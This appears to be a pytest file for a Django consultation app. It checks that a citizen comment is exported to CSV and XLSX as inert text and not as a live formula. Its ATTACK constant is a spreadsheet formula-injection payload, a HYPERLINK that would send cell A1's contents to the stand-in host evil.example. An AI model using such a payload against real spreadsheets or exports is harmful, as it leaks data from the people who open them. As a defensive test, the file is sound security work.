"""A citizen's comment cannot become a live formula in the office's consultation export (CSV and XLSX)."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from kompass.participation import services

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Mehr Infos")'


def test_hyperlink_comment_is_neutralised_in_csv_and_xlsx(client, berlin, citizen, office):
    now = timezone.now()
    draft = services.consultation_create(actor=office, strategy=berlin, slug="guard", title="Entwurf",
                                         opens_at=now - timedelta(days=1), closes_at=now + timedelta(days=7),
                                         chapters=services.parse_draft("# Kapitel\nAbsatz eins.\n"))
    paragraph = draft.chapters.first().paragraphs.first()
    client.force_login(citizen)
    client.post(reverse("participation:consultation_comment", args=[draft.slug]),
                {"paragraph": paragraph.pk, "text": ATTACK})
    assert paragraph.comments.get().text == ATTACK
    client.force_login(office)

    body = client.get(reverse("participation:consultation_export", args=[draft.slug, "csv"])).content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    text_column = rows[0].index("Text")
    assert rows[1][text_column] == "'" + ATTACK

    body = client.get(reverse("participation:consultation_export", args=[draft.slug, "xlsx"])).content
    cell = load_workbook(io.BytesIO(body)).active.cell(2, text_column + 1)
    assert cell.data_type == "s" and cell.value == "'" + ATTACK
